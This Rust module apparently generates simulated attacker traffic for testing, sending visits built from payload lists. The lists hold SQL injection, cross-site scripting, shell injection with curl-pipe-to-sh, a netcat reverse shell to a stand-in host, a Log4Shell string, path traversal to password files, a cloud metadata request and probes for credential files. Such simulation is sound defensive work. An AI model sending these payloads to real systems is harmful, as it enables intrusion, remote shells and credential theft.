//! What attackers send: each tries one kind of attack after the other, from an address of its own,
//! with a look around before.

use std::{net::Ipv4Addr, time::Duration};

use fastrand::Rng;
use serde_json::json;

use crate::request::{Planned, Sender, Visit, encoded};

/// Attacks that each attacker sends.
pub(crate) const ATTACKS: usize = 6;

const SQL: &[&str] = &[
    "1' OR '1'='1",
    "1 UNION SELECT username, password FROM users--",
    "'; DROP TABLE users;--",
    "1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))x)",
    "admin'--",
    "1' AND extractvalue(1,concat(0x7e,version()))-- ",
];
const SCRIPT: &[&str] = &[
    "<script>alert(document.cookie)</script>",
    "\"><img src=x onerror=alert(1)>",
    "<svg/onload=fetch('//evil.example')>",
    "javascript:alert(1)//",
    "<iframe src=javascript:alert(1)>",
    "<body onpageshow=alert(1)>",
];
const SHELL: &[&str] = &[
    "127.0.0.1; cat /etc/passwd",
    "`id`",
    "$(curl http://evil.example/x.sh|sh)",
    "| nc -e /bin/sh evil.example 4444",
    "&& wget http://evil.example/a -O /tmp/a",
    "${jndi:ldap://evil.example/a}",
];
const FILES: &[&str] = &[
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fshadow",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "php://filter/convert.base64-encode/resource=index.php",
    "....//....//etc/passwd",
];
const PROBES: &[&str] = &[
    "/.git/config",
    "/.env",
    "/wp-login.php",
    "/phpmyadmin/index.php",
    "/.aws/credentials",
    "/cgi-bin/luci/;stok=/locale",
];

/// All that so many attackers send.
pub(crate) fn day(attackers: usize, random: &mut Rng) -> Vec<Visit> {
    let mut visits = Vec::new();
    for attacker in 0..attackers {
        let client = Ipv4Addr::new(192, 88, 98, u8::try_from(attacker % 250 + 1).unwrap_or(1));
        let mut at = Duration::from_secs(random.u64(3600..23 * 3600));
        for attack in 0..ATTACKS {
            at += Duration::from_millis(random.u64(500..15_000));
            visits.push(Visit {
                at,
                client,
                sender: Sender::Attacker(attacker),
                request: request(attacker, attack),
            });
        }
    }
    visits
}

fn request(attacker: usize, attack: usize) -> Planned {
    let of = |list: &[&'static str]| list.get(attack).copied().unwrap_or_default();
    match attacker % 5 {
        0 => Planned::get(of(PROBES)).program("Mozilla/5.0 zgrab/0.x"),
        1 => Planned::get(format!("/search?q={}", encoded(of(SQL)))),
        2 => Planned::form("/comments", &[("title", "hi"), ("text", of(SCRIPT))]),
        3 => Planned::post("/api/cart", "application/json", json!({"sku": of(SHELL)}).to_string()),
        _ => Planned::get(format!("/search?file={}", encoded(of(FILES)))),
    }
}
